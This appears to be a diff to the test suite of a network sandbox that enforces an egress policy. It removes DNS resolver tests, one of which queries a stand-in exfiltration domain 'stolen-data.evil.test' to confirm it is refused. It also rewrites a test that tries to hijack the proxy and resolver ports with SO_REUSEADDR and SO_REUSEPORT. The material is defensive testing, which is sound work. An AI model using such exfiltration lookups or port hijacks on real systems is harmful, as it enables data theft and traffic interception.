@@ -4,7 +4,7 @@ import re
 
 import harness
 import world
-from harness import Skip, expect, test
+from harness import expect, test
 
 origins = world.World()
 
@@ -104,109 +104,23 @@ def _contradiction():
         expect(len(origins.api.requests) == before, result)
 
 
-# A resolver of its own, so that each record type can be asked for.
-RESOLVER = r"""
-import os, socket, struct, sys
-servers = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]
-def ask(name, kind, tcp=False, identity=7):
-    q = struct.pack('>HHHHHH', identity, 0x100, 1, 0, 0, 0)
-    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
-    q += struct.pack('>HH', kind, 1)
-    server = servers[0]
-    family = socket.AF_INET6 if ':' in server else socket.AF_INET
-    s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
-    s.settimeout(4); s.connect((server, 53))
-    if tcp:
-        s.send(struct.pack('>H', len(q)) + q); a = s.recv(4096)[2:]
-    else:
-        s.send(q); a = s.recv(4096)
-    i, flags, _, answers, _, _ = struct.unpack('>HHHHHH', a[:12])
-    assert i == identity
-    if answers:
-        offset = len(q)
-        offset += 2 if a[offset] >= 192 else len(name) + 2
-        size = struct.unpack('>H', a[offset + 8:offset + 10])[0]
-        address = a[offset + 10:offset + 10 + size]
-        if size in (4, 16):
-            family = socket.AF_INET if size == 4 else socket.AF_INET6
-            return flags & 15, socket.inet_ntop(family, address)
-    return flags & 15, None
-"""
-RCODE_NOTIMP = 4
-
-
-@test("the resolver answers a name that the policy allows, one address for one name")
-def _dns_allowed():
-    result = harness.run_python(
-        RESOLVER + "print([ask('api.example.test', 1), ask('api.example.test', 1, tcp=True),\n"
-        "       ask('origin.test', 1)])\n",
-        world.policy("api.example.test:8080", "origin.test:8080"))
-    expect(result.code == 0, result)
-    first, again, other = eval(result.out)  # pylint: disable=eval-used
-    expect(first[0] == 0 and first[1] and first == again and other[1] != first[1], result)
-    expect(first[1] != world.ADDRESS, "the address must be synthetic:", result)
-
-
-@test("the resolver refuses a name that the policy does not allow, says so, and asks nobody")
-def _dns_refused():
-    result = harness.run_python(RESOLVER + "print(ask('stolen-data.evil.test', 1))\n",
-                                world.policy("api.example.test:8080"))
-    expect(result.code == 0, result)
-    expect(eval(result.out)[0] in (3, 5), result)  # pylint: disable=eval-used
-    expect(len(result.denials()) == 1 and "evil.test" in result.denials()[0], result)
-
-
-@test("HTTPS records get no data, TXT is not implemented")
-def _dns_types():
-    result = harness.run_python(
-        RESOLVER + "print([ask('api.example.test', 65), ask('api.example.test', 16)])\n",
-        world.policy("api.example.test:8080"))
-    expect(result.code == 0, result)
-    https, text = eval(result.out)  # pylint: disable=eval-used
-    expect(https == (0, None) and text == (RCODE_NOTIMP, None), result)
-
-
-@test("a query to any other server's port 53 is answered by the same resolver")
-def _dns_elsewhere():
-    result = harness.run_python(
-        RESOLVER + "servers[:] = ['10.77.0.1']\nprint(ask('api.example.test', 1))\n",
-        world.policy("api.example.test:8080"))
-    expect(result.code == 0 and eval(result.out)[0] == 0, result)  # pylint: disable=eval-used
-
-
-@test("an address that the resolver handed out leads to its name only on the allowed port")
-def _dns_port():
-    result = harness.run_host(["env", "-i", *CURL, "http://api.example.test:8081/"],
-                              world.policy("api.example.test:8080"))
-    expect(result.code != 0 and len(result.denials()) == 1, result)
-    expect("api.example.test:8081" in result.denials()[0], result)
-    expect(origins.refused.connections == 0, result)
-
-
 @test("the listeners of the box cannot be hijacked by SO_REUSEADDR or SO_REUSEPORT")
 def _hijack():
     result = harness.run_python(
         "import os, re, socket\n"
-        "found = []\n"
-        "for name, kind in (('tcp', 1), ('tcp6', 1), ('udp', 2), ('udp6', 2)):\n"
-        "    try: lines = open(f'/proc/net/{name}').read().splitlines()[1:]\n"
-        "    except OSError: continue\n"
-        "    for l in lines:\n"
-        "        port = int(l.split()[1].split(':')[1], 16)\n"
-        "        found.append((kind, 10 if '6' in name else 2, port))\n"
-        "match = re.search(r':(\\d+)/?$', os.environ.get('http_proxy', ''))\n"
-        "found.append((1, 2, int(match.group(1))))\n"
-        "for kind, family, port in set(found):\n"
+        "host, port = re.search(r'//([^/]+):(\\d+)', os.environ['http_proxy']).groups()\n"
+        "resolver = re.search(r'nameserver (\\S+)', open('/etc/resolv.conf').read()).group(1)\n"
+        "for kind, address in ((1, (host, int(port))), (1, ('0.0.0.0', int(port))),\n"
+        "                      (2, (resolver, 53)), (2, ('0.0.0.0', 53))):\n"
         "    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):\n"
-        "        for address in (('127.0.0.1', '0.0.0.0') if family == 2 else ('::1', '::')):\n"
-        "            s = socket.socket(family, kind); s.setsockopt(1, option, 1)\n"
-        "            try:\n"
-        "                s.bind((address, port))\n"
-        "                if kind == 1: s.listen()\n"
-        "                print('TAKEN', kind, address, port)\n"
-        "            except OSError as e: print('refused')\n", world.policy(API))
+        "        s = socket.socket(socket.AF_INET, kind); s.setsockopt(1, option, 1)\n"
+        "        try:\n"
+        "            s.bind(address)\n"
+        "            if kind == 1: s.listen()\n"
+        "            print('TAKEN', kind, address)\n"
+        "        except OSError as e: print('refused')\n", world.policy(API))
     expect(result.code == 0 and "TAKEN" not in result.out, result)
-    expect("refused" in result.out, result)
+    expect(result.out.count("refused") == 8, result)
 
 
 @test("a flood of denials becomes few lines and does not starve another program's allow")
